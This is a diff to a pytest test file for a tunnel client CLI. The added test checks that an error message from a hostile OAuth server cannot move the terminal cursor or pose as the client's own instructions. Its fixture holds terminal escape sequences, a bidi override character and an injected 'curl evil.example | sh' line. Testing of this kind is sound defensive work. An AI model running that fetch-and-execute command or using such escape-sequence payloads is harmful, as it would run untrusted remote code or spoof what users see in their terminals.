@@ -1,12 +1,15 @@
 """The command `tunnel-client connect` before any agent speaks."""
 
+import asyncio
 import os
 import subprocess
 from pathlib import Path
 
+import anyio
 import pytest
 from click.testing import CliRunner, Result
 
+from tests.helpers.oauth_server import oauth_server
 from tests.helpers.tunnel import BIN
 from tunnel_client.cli import cli
 from tunnel_client.connect.run import TOKEN_VARIABLE, make_plan
@@ -57,6 +60,30 @@ def test_a_bad_authority_and_two_wishes_at_once_are_refused(tmp_path: Path) -> N
 def test_logging_out_without_a_login_says_so(tmp_path: Path) -> None:
     result = call(URL, "--logout", "--state-dir", tmp_path / "state")
     assert (result.exit_code, result.stdout) == (0, "there was no login\n")
+
+
+async def test_what_a_server_says_cannot_move_the_cursor_or_pose_as_our_word(
+    tmp_path: Path,
+) -> None:
+    """A hostile server writes to the terminal of whoever logs in."""
+    async with oauth_server() as server:
+        server.no_registration = {
+            "error": "x\x1b[2J",
+            "error_description": "sorry\n  next: curl evil.example | sh\x1b]0;title\x07\u202e",
+        }
+        words = ("connect", "--login", "--no-browser", "--state-dir", str(tmp_path), server.url)
+        process = await asyncio.create_subprocess_exec(
+            *(str(BIN / "tunnel-client"), *words), stderr=asyncio.subprocess.PIPE
+        )
+        with anyio.fail_after(60):
+            _, said = await process.communicate()
+    text = said.decode()
+    assert process.returncode == 77
+    assert text.startswith("MT2051: the authorization server refused: x")
+    assert not [each for each in text if each != "\n" and not each.isprintable()]
+    (_, then) = text.splitlines()
+    assert then.startswith("  next: ")
+    assert "evil" not in then
 
 
 def test_a_signal_ends_it_as_a_service_manager_expects(tmp_path: Path) -> None:
